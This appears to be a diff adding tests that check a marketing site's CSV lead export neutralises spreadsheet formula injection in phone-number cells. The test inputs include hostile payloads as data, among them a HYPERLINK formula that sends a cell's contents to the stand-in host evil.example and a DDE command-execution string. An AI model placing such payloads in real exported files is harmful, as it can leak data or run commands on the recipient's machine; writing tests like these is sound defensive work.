@@ -9,11 +9,14 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import subprocess
 import time
 
 import httpx2
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from lead_payloads import lead_payload
 from servers import BIN, ROOT
 
@@ -104,3 +107,45 @@ def test_every_cell_follows_the_owasp_rule(value, column, cell):
     from marketing_site.services.lead_export import csv_cell
 
     assert csv_cell(value, column) == cell
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '+33 1 23 45 67 89=HYPERLINK("https://evil.example/?"&E2,"x")',
+        "+33 1 23 45 67 89+cmd|' /C calc'!A0",
+        "+33 1 23 45 67 89@SUM(1+1)",
+        "+33 1 23 45 67 89\n=1+1",
+        "+33 1 23 45 67 89\t=1+1",
+        '+33 1 23 45 67 89 poste 12"=1+1',
+        "-33 6 12 34 56 78;=1+1",
+        "+33 1 23 45 67 89 =1+1",
+        "+33 1 23 45 67 89 & '!A0",
+    ],
+)
+def test_a_phone_number_followed_by_a_formula_is_neutralised(value):
+    """The phone exception is the whole cell matching the form's phone rule, never a prefix."""
+    from marketing_site.services.lead_export import csv_cell
+
+    assert csv_cell(value, "phone") == "'" + value
+
+
+# Characters a phone number of the form's rule may hold (digits, spaces, punctuation, the words
+# of an extension): nothing a spreadsheet could call or quote.
+_PHONE_CELL = re.compile(r"[0-9A-Za-z\u00C0-\u024F \u00A0\u202F.\-()/+#,;:]*")
+_PHONES = ["+33 1 23 45 67 89", "-33 6 12 34 56 78", "+41 22 123 45 67", "+33 6 12 34 56 78 poste 12"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.sampled_from(_PHONES),
+    st.text(alphabet=st.sampled_from("=+-@\"'|!&()$*^%:;,. \t\r\nAHIKLNPRSTUVYcdlm0123456789"), min_size=1),
+)
+def test_a_phone_cell_left_as_it_is_holds_only_phone_characters(phone, suffix):
+    from marketing_site.services.lead_export import FORMULA_STARTS, csv_cell
+
+    cell = csv_cell(phone + suffix, "phone")
+    if cell.startswith(FORMULA_STARTS):
+        assert _PHONE_CELL.fullmatch(cell), cell
+    else:
+        assert cell == "'" + phone + suffix
